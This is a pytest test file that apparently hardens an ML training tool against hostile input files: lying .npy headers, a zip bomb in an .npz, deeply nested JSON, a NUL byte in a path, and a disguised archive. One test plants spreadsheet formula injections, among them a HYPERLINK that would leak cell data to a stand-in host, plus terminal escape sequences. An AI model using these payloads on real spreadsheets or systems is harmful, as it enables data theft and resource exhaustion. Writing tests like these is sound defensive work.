"""Hostile data files and run-directory files (the spec corpus is tests/test_hostile.py): an archive that
lies about its arrays, a zip bomb, a csv field past the csv module's limit, JSON nested past Python's recursion,
values of the wrong kind in data.json and summary.json. Each is a clear error naming the file (or, where a file
is optional, is passed over), within a memory limit, never a traceback."""

import io
import json
import zipfile

import numpy as np
import numpy.lib.format as npy
import pytest
from conftest import MODELS, run_cli
from measure import run_measured

LIMIT = 1 << 30  # address space a command may add: a 4 GiB allocation would fail far beyond it
SPEC = """\
specgrad: 1
name: files
data: {source: SOURCE}
model: {inputs: {x: [2]}, nodes: [{y_hat: {layer: linear, input: x, units: 1}}], output: y_hat}
loss: mse
optimizer: {type: sgd, lr: 0.1}
train: {steps: 2}
"""


def npy_header(shape, dtype=np.float64) -> bytes:
    out = io.BytesIO()
    npy.write_array_header_1_0(
        out, {"descr": npy.dtype_to_descr(np.dtype(dtype)), "fortran_order": False, "shape": shape}
    )
    return out.getvalue()  # the magic string, then the header


def train(tmp_path, source: str):
    (tmp_path / "spec.yaml").write_text(SPEC.replace("SOURCE", source))
    return run_measured("train", tmp_path / "spec.yaml", "--run-dir", tmp_path / "run", address_limit=LIMIT)


def refused(result, *words):
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr and "MemoryError" not in result.stderr, result.stderr
    for word in words:
        assert word in result.stderr, result.stderr


def test_an_npy_whose_header_declares_more_than_it_holds(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.npy").write_bytes(npy_header((10**12, 2)) + bytes(64))
    np.save(tmp_path / "y.npy", np.zeros((4, 1)))
    refused(train(tmp_path, "npy, fields: {x: x.npy, y: y.npy}"), "x.npy", "declares shape [1000000000000, 2]")


@pytest.mark.parametrize("compression", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED], ids=["stored", "deflated"])
def test_an_npz_member_whose_header_declares_more_than_it_holds(tmp_path, monkeypatch, compression):
    monkeypatch.chdir(tmp_path)
    with zipfile.ZipFile(tmp_path / "d.npz", "w", compression) as archive:
        archive.writestr("x.npy", npy_header((10**12, 2)) + bytes(64))
        buffer = io.BytesIO()
        np.save(buffer, np.zeros((4, 1)))
        archive.writestr("y.npy", buffer.getvalue())
    refused(train(tmp_path, "npz, path: d.npz"), "d.npz", "declares shape [1000000000000, 2]")


@pytest.mark.slow
def test_a_zip_bomb_in_an_npz_is_refused_unread(tmp_path, monkeypatch):
    """300 MiB of zeros deflate to 300 KiB: refused from the archive's directory, before any of it is read."""
    monkeypatch.chdir(tmp_path)
    rows = (300 << 20) // 16
    with zipfile.ZipFile(tmp_path / "d.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("x.npy", "w", force_zip64=True) as member:
            member.write(npy_header((rows, 2)))
            chunk = bytes(1 << 20)
            for _ in range(300):
                member.write(chunk)
    (tmp_path / "spec.yaml").write_text(SPEC.replace("SOURCE", "npz, path: d.npz, fields: {x: x, y: x}"))
    result = run_measured("train", tmp_path / "spec.yaml", "--run-dir", tmp_path / "run", address_limit=LIMIT)
    refused(result, "d.npz", "refused unread", "np.savez")
    assert result.peak_kib < 200 << 10


def test_a_csv_field_past_the_csv_modules_limit(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "d.csv").write_text("a,b,c\n" + "1" * 200_000 + ",2,3\n")
    result = train(tmp_path, "csv, path: d.csv, columns: {x: [a, b], y: [c]}")
    refused(result, "d.csv:2: not a csv file of numbers")
    assert len(result.stderr) < 2000


def test_csv_numbers_are_written_as_csv_writers_write_them(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "d.csv").write_text("a,b,c\n1_000,2,3\n")
    refused(train(tmp_path, "csv, path: d.csv, columns: {x: [a, b], y: [c]}"), "holds '1_000', not a number")


@pytest.fixture
def run(tmp_path):
    result = run_cli(
        "train", MODELS / "mlp_moons.yaml", "--set", "train.epochs=1", "--run-dir", tmp_path / "run", "--quiet"
    )
    assert result.returncode == 0, result.stderr
    return tmp_path / "run"


DEEP = "[" * 200_000 + "]" * 200_000


@pytest.mark.parametrize(
    "change,words",
    [
        (lambda s: DEEP, ["data.json", "nested too deeply"]),
        (lambda s: json.dumps({**s, "standardize": {"x": {"mean": [9**400, 1], "std": [1, 1]}}}), ["data.json"]),
        (lambda s: json.dumps({**s, "base_dir": "/tmp/\0x"}), ["data.json", "absolute folder name"]),
        (
            lambda s: json.dumps({**s, "standardize": {**s["standardize"], "y": {"mean": 0, "std": 1}}}),
            ["standardizes"],
        ),
        (lambda s: json.dumps({**s, "standardize": {"x": {"mean": [0, 0], "std": [0, 1]}}}), ["not positive"]),
    ],
    ids=["deep", "huge-int", "nul", "target", "zero-std"],
)
def test_a_damaged_data_json_is_a_clear_error(run, change, words):
    state = json.loads((run / "data.json").read_text())
    (run / "data.json").write_text(change(state))
    for command in (["eval", run], ["predict", run, run / "nowhere.npz"]):
        result = run_cli(*command)
        refused(result, *words)


def test_deep_json_and_odd_values_in_summary_and_metrics_are_passed_over(run, tmp_path):
    other = tmp_path / "other"
    other.mkdir()
    for name in ("spec.yaml", "data.json"):
        (other / name).write_bytes((run / name).read_bytes())
    (run / "summary.json").write_text(DEEP)
    (other / "summary.json").write_text(json.dumps({"status": "completed", "val": [1], "train": "x"}))
    with open(run / "metrics.jsonl", "a") as f:
        f.write(DEEP + "\n")
    for command in (["runs", tmp_path], ["compare", run, other], ["diagnose", run]):
        result = run_cli(*command)
        assert result.returncode in (0, 1) and "Traceback" not in result.stderr, (command, result.stderr)
    assert run_cli("runs", tmp_path).returncode == 0


def test_npz_members_without_the_npy_suffix(tmp_path, monkeypatch):
    """numpy names a member without ".npy" by its whole name: such an array loads; a member that is not an
    array is named in the error when it is a field, and ignored when it is not."""
    monkeypatch.chdir(tmp_path)
    with zipfile.ZipFile(tmp_path / "d.npz", "w") as archive:
        archive.writestr("x", _npy(np.zeros((4, 2))))
        archive.writestr("y.npy", _npy(np.zeros((4, 1))))
        archive.writestr("README.txt", "hello")
    result = train(tmp_path, "npz, path: d.npz, fields: {x: x, y: y}")
    assert result.returncode == 0, result.stderr
    refused(train(tmp_path, "npz, path: d.npz"), "'README.txt' is not a .npy array")


def _npy(array) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


def test_runs_output_neither_runs_formulas_nor_terminal_escapes(run, tmp_path):
    """A run directory's strings reach a spreadsheet (runs --format csv) and a terminal (the table): a cell
    starting with = + - @ is quoted as text, and control characters are escaped."""
    summary = json.loads((run / "summary.json").read_text())
    summary.update(status='=HYPERLINK("http://x/?"&A1,"ok")', steps="+1+1\x1b]0;pwned\x07", seconds="@SUM(1)")
    (run / "summary.json").write_text(json.dumps(summary))
    csv_out = run_cli("runs", tmp_path, "--format", "csv")
    table = run_cli("runs", tmp_path)
    assert csv_out.returncode == table.returncode == 0, csv_out.stderr + table.stderr
    assert "'=HYPERLINK" in csv_out.stdout and "'+1+1" in csv_out.stdout and "'@SUM(1)" in csv_out.stdout
    for out in (csv_out.stdout, table.stdout):
        assert "\x1b" not in out and "\x07" not in out


def test_csv_cells_quote_formulas_only():
    from specgrad.run.compare import ABSENT, _csv_text

    assert [_csv_text(v) for v in ("=1+1", "+x", "@a", "-2+3", "-1.5", "1e3", ABSENT, 2.0, "poly")] == [
        "'=1+1",
        "'+x",
        "'@a",
        "'-2+3",
        "-1.5",
        "1e3",
        ABSENT,
        2.0,
        "poly",
    ]


def test_an_npy_disguised_with_a_zip_end_record_is_no_npz(tmp_path):
    """zipfile looks at a file's end, np.load at its start: an .npy ending in a zip's end record fooled one
    test and not the other."""
    from specgrad.data.files import load_npz
    from specgrad.data.registry import DataError

    np.save(tmp_path / "evil.npy", np.frombuffer(b"PK\x05\x06" + bytes(18), np.uint8))
    (tmp_path / "evil.npz").write_bytes((tmp_path / "evil.npy").read_bytes())
    with pytest.raises(DataError, match="not a zip archive of .npy arrays"):
        load_npz(tmp_path / "evil.npz")


def test_a_spreadsheets_trailing_empty_rows_are_no_samples(tmp_path):
    from specgrad.data.files import read_csv
    from specgrad.data.registry import DataError

    (tmp_path / "trail.csv").write_text("a,b\n1,2\n3,4\n,\n,\n")
    assert read_csv(tmp_path / "trail.csv")["a"].tolist() == [1.0, 3.0]
    (tmp_path / "middle.csv").write_text("a,b\n1,2\n,\n3,4\n")  # in the middle: a sample with empty cells
    with pytest.raises(DataError, match="middle.csv:3: column 'a' holds ''"):
        read_csv(tmp_path / "middle.csv")
